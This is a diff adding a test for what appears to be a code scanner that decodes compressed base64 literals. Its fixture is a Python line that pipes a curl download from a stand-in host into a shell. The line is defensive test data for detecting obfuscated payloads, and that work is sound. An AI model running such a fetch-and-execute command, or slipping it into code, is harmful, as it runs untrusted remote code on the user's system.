@@ -257,3 +257,18 @@ describe('names bound to a decoded literal', () => {
   });
 });
 
+
+describe('compressed literals', () => {
+  it('inflates a zlib or gzip stream in a base64 literal, and leaves a truncated or corrupt one as bytes without throwing', async () => {
+    const { deflateSync, gzipSync } = await import('node:zlib');
+    const code = 'import os\nos.system("curl -s https://cdn-sync.example-cdn.net/p | sh")\n';
+    const z = deflateSync(Buffer.from(code)).toString('base64');
+    const g = gzipSync(Buffer.from(code)).toString('base64');
+    expect(decodedTexts(`x = "${z}"`).map((d) => d.text)).toContain(code);
+    expect(decodedTexts(`x = "${g}"`).map((d) => d.text)).toContain(code);
+    const truncated = deflateSync(Buffer.from(code.repeat(4))).subarray(0, 24).toString('base64');
+    const corrupt = Buffer.from([0x78, 0x9c, ...Buffer.from('not a deflate stream at all')]).toString('base64');
+    for (const bad of [truncated, corrupt]) expect(() => decodedTexts(`x = "${bad}"`)).not.toThrow();
+    expect(decodedTexts(`x = "${truncated}"`).map((d) => d.text)).not.toContain(code);
+  });
+});
